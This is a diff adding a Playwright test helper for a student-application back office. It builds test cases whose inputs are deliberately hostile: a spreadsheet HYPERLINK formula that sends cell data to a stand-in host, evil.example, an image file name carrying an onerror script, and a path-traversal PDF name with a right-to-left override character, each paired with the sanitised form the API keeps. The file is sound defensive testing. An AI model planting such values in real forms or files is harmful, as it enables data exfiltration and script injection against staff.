@@ -1,0 +1,57 @@
+import { expect, type Page } from '@playwright/test';
+import sharp from 'sharp';
+import type { SubmissionAnswer } from '../../src/contract/applications.ts';
+import { bearer, logIn, verifiedAccount } from './accounts-browser.ts';
+import { pdf, png } from './applications.ts';
+import { apply, pdfFile } from './applications-browser.ts';
+
+/** Cases as staff work them in the back office. */
+
+const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"click")';
+export const TRANSCRIPT = pdf(20_000);
+/** A name that would be markup, and one that would read backwards and lie elsewhere. */
+const NAMES = { picture: '<img src=x onerror=alert(1)>.png', pdf: '../../transcript\u202Egpj.pdf' };
+/** As the API keeps them. */
+export const KEPT = { picture: '_img src=x onerror=alert(1)_.png', pdf: 'transcriptgpj.pdf' };
+
+/** A student who has applied with a picture and a PDF. */
+export async function newCase(page: Page) {
+  const member = await verifiedAccount(page.request);
+  const student = await logIn(page.request, member);
+  const picture = sharp({ create: { width: 640, height: 400, channels: 3, background: '#bd1439' } });
+  const answer = await apply(page.request, student, {
+    first_name: 'Asha',
+    last_name: FORMULA,
+    email: member.email,
+    contact: '+977 984-1112223',
+    preferred_course: 'Bachelor of Nursing',
+    'passport_documents[0][file]': {
+      name: NAMES.picture,
+      mimeType: 'image/png',
+      buffer: await picture.png().toBuffer(),
+    },
+    // The beginning of a picture, and then noise.
+    'additional_documents[0][file]': { name: 'damaged.png', mimeType: 'image/png', buffer: png() },
+    'academic_documents[0][file]': { name: NAMES.pdf, mimeType: 'application/pdf', buffer: TRANSCRIPT },
+  });
+  return { ...answer, member, student };
+}
+
+/** The student of a case adds a document. */
+export async function answerWith(
+  page: Page,
+  { id, student }: Awaited<ReturnType<typeof newCase>>,
+  name: string,
+) {
+  const added = await page.request.post(`/api/user/applications/${id}/documents/`, {
+    headers: bearer(student),
+    multipart: { 'ielts_documents[0][file]': pdfFile(name) },
+  });
+  expect(added.status()).toBe(200);
+}
+
+export const screenOf = ({ id }: SubmissionAnswer) => `/admin/applications/${id}`;
+export const question = (page: Page) => page.getByRole('dialog');
+export const press = (page: Page, name: string) => page.getByRole('button', { name, exact: true }).click();
+export const pressInQuestion = (page: Page, name: string) =>
+  question(page).getByRole('button', { name, exact: true }).click();
